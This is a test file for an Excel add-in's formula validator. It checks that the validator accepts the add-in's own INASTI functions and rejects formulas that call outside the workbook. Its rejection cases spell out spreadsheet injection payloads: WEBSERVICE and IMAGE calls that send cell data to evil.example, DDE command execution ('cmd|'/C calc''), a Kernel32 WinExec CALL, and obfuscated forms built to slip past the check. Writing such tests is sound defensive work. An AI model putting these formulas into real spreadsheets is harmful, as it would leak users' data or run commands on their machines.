import fc from "fast-check";
import { unfitIn } from "../../src/formula/fit";
import { ownFunction } from "../../src/taskpane/formula/own-formulas";
import { sourceFunctions } from "../setup/excel";

const unfit = unfitIn(
  {
    sheets: ["Sheet1", "My sheet", "It's mine", "Jaar 2026", "Zwölf"],
    names: [
      { name: "Income", formula: "=Sheet1!$B$2" },
      { name: "PARAMETER_YEAR", formula: "=2026" },
      { name: "PARAMETER_INDEXATION", formula: '=""' },
      { name: "Double", formula: "=LAMBDA(x,x*2)" },
      { name: "Round", formula: "=Again" },
      { name: "Again", formula: "=Round+Income" },
      { name: "Secret", formula: '=WEBSERVICE("http://evil.example/?"&Sheet1!$A$1)' },
      { name: "Through", formula: "=Secret&1" },
      { name: "Linked", formula: "='C:\\tmp\\[Rates.xlsx]Rates'!$A$1" },
      { name: "Twice", formula: "=Sheet1!$A$1" },
      { name: "Twice", formula: "=INDIRECT(Sheet1!$A$1)" },
    ],
  },
  ownFunction,
);

beforeAll(() => void sourceFunctions());

it.each([
  "=INASTI.QUARTERLY(A1)",
  '=inasti.quarterly($A$1,"principal",PARAMETER_YEAR,,,PARAMETER_INDEXATION)',
  "=@INASTI.QUARTERLY (A1)\n+ 1",
  "=_xldudf_INASTI_QUARTERLY(A1)",
  "=SUM(INASTI.BATCH('My sheet'!A1:A9#))*2%",
  "=IF(ISERROR(INASTI.QUARTERLY(-A1)),#N/A,{1,2;3,4})",
  "=INASTI.QUARTERLY('It''s mine'!A1+'Sheet1:My sheet'!B2+Sheet1:Zwölf!C3)",
  "=INASTI.QUARTERLY(Table1[a'[b]+Table1[[#This Row],[Income '('in']]]+[@Income])",
  "=INASTI.QUARTERLY(Table1[[#All],[a]]:Table1[b])+ROWS(Table1)",
  "=INASTI.QUARTERLY(1)&\"WEBSERVICE(1)|'[Book]x'!A1\"",
  "=INASTI.QUARTERLY(1E+5,.5,1.)+#REF!+A:A+1:3+$1:$3",
  "=_xlfn.LET(x,Income,_xlfn._xlws.SORT(INASTI.BATCH(x)))",
  "=INASTI.QUARTERLY(Double(Income)+Round+nowhere+Sheet1!Income)",
  "=BYROW(INASTI.BATCH(A1:A9),SUM)",
])("may be written: %s", (formula) => expect(unfit(formula)).toBeNull());

it.each([
  // Nothing of ours.
  ['=WEBSERVICE("http://evil.example/?"&A1)', '=WEBSERVICE("http://evil.example/?"&A1)'],
  ["=cmd|'/C calc'!A0", "=cmd|'/C calc'!A0"],
  ['=INDIRECT("Secret!A1")', '=INDIRECT("Secret!A1")'],
  ["=SUM(A1)", "=SUM(A1)"],
  ['="INASTI.QUARTERLY(1)"', '="INASTI.QUARTERLY(1)"'],
  ["=INASTI_QUARTERLY(1)", "INASTI_QUARTERLY"],
  // Something of ours as cover.
  ['=INASTI.QUARTERLY(WEBSERVICE("http://evil.example/?"&A1))', "WEBSERVICE"],
  ["=INASTI.QUARTERLY(webservice (A1))", "webservice"],
  ["=INASTI.QUARTERLY(_xlfn.WEBSERVICE(A1))", "_xlfn.WEBSERVICE"],
  ["=INASTI.QUARTERLY(ＷＥＢＳＥＲＶＩＣＥ(A1))", "ＷＥＢＳＥＲＶＩＣＥ"],
  ["=MAP(INASTI.BATCH(A1:A9),WEBSERVICE)", "WEBSERVICE"],
  ["=MAP(INASTI.BATCH(A1:A9),OTHER.ADDIN)", "OTHER.ADDIN"],
  ["=INASTI.QUARTERLY(cmd|'/C calc'!A0)", "|"],
  ["=INASTI.QUARTERLY('cmd'|'/C calc'!A0)", "'cmd'"],
  ["=INASTI.QUARTERLY([Book2.xlsx]Sheet1!A1)", "[Book2.xlsx]Sheet1!"],
  ["=INASTI.QUARTERLY([1]!Income)", "[1]!"],
  ["=INASTI.QUARTERLY([@Book.xlsx]Sheet1!A1)", "[@Book.xlsx]Sheet1!"],
  ["=INASTI.QUARTERLY([@Book.xlsx] Sheet1!A1)", "[@Book.xlsx]"],
  ["=INASTI.QUARTERLY('[Book2.xlsx]Sheet1'!A1)", "'[Book2.xlsx]Sheet1'!"],
  ["=INASTI.QUARTERLY('C:\\x\\[b.xlsx]Sheet1'!A1)", "'C:\\x\\[b.xlsx]Sheet1'!"],
  ["=INASTI.QUARTERLY('https://evil.example/[b.xlsx]Sheet1'!A1)", "'https://evil.example/[b.xlsx]Sheet1'!"],
  ["=INASTI.QUARTERLY('Book2.xlsx'!Income)", "'Book2.xlsx'!"],
  ["=INASTI.QUARTERLY(Book2.xlsx!Income)", "Book2.xlsx!"],
  ["=INASTI.QUARTERLY(Gone!A1)", "Gone!"],
  ["=INASTI.QUARTERLY(Gone:Sheet1!A1)", "Gone:Sheet1!"],
  ["=INASTI.QUARTERLY('Sheet1:Gone'!A1)", "'Sheet1:Gone'!"],
  ["=INASTI.QUARTERLY(Sheet1!RUN(1))", "RUN"],
  ['=HYPERLINK("http://evil.example",INASTI.QUARTERLY(A1))', "HYPERLINK"],
  ['=INASTI.QUARTERLY(1)&IMAGE("http://evil.example/?"&A1)', "IMAGE"],
  ['=RTD("evil",,INASTI.QUARTERLY(1))', "RTD"],
  ['=INASTI.QUARTERLY(CALL("Kernel32","WinExec","JCJ","calc",0))', "CALL"],
  ['=INASTI.QUARTERLY(REGISTER.ID("x","y"))', "REGISTER.ID"],
  ["=INASTI.QUARTERLY(SQL.REQUEST(A1))", "SQL.REQUEST"],
  ['=INASTI.QUARTERLY(CUBEVALUE("x",A1))', "CUBEVALUE"],
  ["=INASTI.QUARTERLY(INDIRECT(A1))", "INDIRECT"],
  ["=INASTI.QUARTERLY(MYMACRO(A1))", "MYMACRO"],
  // Names that stand for such.
  ["=INASTI.QUARTERLY(Secret)", "Secret"],
  ["=INASTI.QUARTERLY(through)", "through"],
  ["=INASTI.QUARTERLY(Linked)", "Linked"],
  ["=INASTI.QUARTERLY(Sheet1!Twice)", "Twice"],
  // Signs that hide, or that no formula has.
  ["=INASTI.QUARTERLY(Table1[a'b]+WEBSERVICE(A1)+Table1[a'b])", "WEBSERVICE"],
  ["=INASTI.QUARTERLY(Table1[[a]+WEBSERVICE(A1)+[b]])", "Table1[[a]+WEBSERVICE(A1)+[b]]"],
  ["=INASTI.QUARTERLY(Table1[x[a]+WEBSERVICE(A1)+[b]])", "Table1[x[a]+WEBSERVICE(A1)+[b]]"],
  ['=INASTI.QUARTERLY("a)+WEBSERVICE(A1)', '"a)+WEBSERVICE(A1)'],
  ["=INASTI.QUARTERLY(1)+'", "'"],
  ["=INASTI.QUARTERLY(1)+😀", "😀"],
  ["=INASTI.QUARTERLY(1)?", "?"],
  ["=INASTI.QUARTERLY(!A1)", "!"],
])("may not be written: %s, for %s", (formula, part) => expect(unfit(formula)).toBe(part));

it("shows no more of a part than can be read, and writes nothing longer than Excel takes", () => {
  expect(unfit(`=INASTI.QUARTERLY(${"X".repeat(5000)}(1))`)).toBe(`${"X".repeat(60)}…`);
  expect(unfit(`=INASTI.QUARTERLY(1${"+1".repeat(5000)})`)).not.toBeNull();
});

it("no arrangement of harmless parts hides a call that reaches outside", () => {
  const around = fc.array(
    fc.constantFrom(
      "A1",
      "'My sheet'!A1",
      '"a""b"',
      "Table1[a]",
      "Table1[a'[b]",
      "[@a]",
      "(",
      ")",
      "+",
      ",",
      "#REF!",
      "{1;2}",
      " ",
      "1.5",
      "Income",
    ),
    { maxLength: 8 },
  );
  fc.assert(
    fc.property(
      around,
      around,
      fc.constantFrom("WEBSERVICE(A1)", "a|'b'!A1", "[b]c!A1", "'[b]c'!A1"),
      (before, after, hidden) => {
        expect(unfit(`=INASTI.QUARTERLY(1)+${before.join("")}+${hidden}+${after.join("")}`)).not.toBeNull();
      },
    ),
  );
});
